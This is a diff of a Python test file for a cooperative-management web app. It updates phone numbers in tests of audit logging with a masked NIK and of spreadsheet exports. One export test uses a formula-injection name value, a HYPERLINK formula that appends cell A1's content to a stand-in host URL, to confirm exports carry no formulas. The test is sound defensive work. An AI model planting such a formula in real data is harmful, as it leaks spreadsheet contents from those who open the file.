@@ -73,7 +73,7 @@ def test_every_change_is_audited_with_before_and_after_and_the_nik_masked(login,
                                                  AuditEvent.record_id == str(m.id), AuditEvent.action == "update")
                          .order_by(AuditEvent.id.desc()))
     assert event.username == "sekretaris.kebonjeruk"
-    assert '"phone": "0812-1111-2222"' in event.after and '"phone": null' in event.before
+    assert '"phone": "+6281211112222"' in event.after and '"phone": null' in event.before
     assert event.cooperative_id == m.cooperative_id
     # Audit timestamps are UTC and close to now.
     from datetime import datetime, timezone
@@ -133,7 +133,7 @@ def test_exports_mask_the_nik_and_never_carry_formulas(login, sysdb):
     s = login("sekretaris.kebonjeruk")
     form = {"organ": m.organ, "position": m.position, "name": '=HYPERLINK("http://x.example/?"&A1,"klik")',
             "nik": "", "gender": m.gender, "term_start": m.term_start.isoformat(),
-            "term_end": m.term_end.isoformat(), "phone": "+62 812 3456"}
+            "term_end": m.term_end.isoformat(), "phone": "+62 812 3456 7890"}
     assert s.post(f"/pengurus-pengawas/edit/{m.id}", form).status_code == 302
     r = s.get("/pengurus-pengawas/export/xlsx")
     assert r.status_code == 200
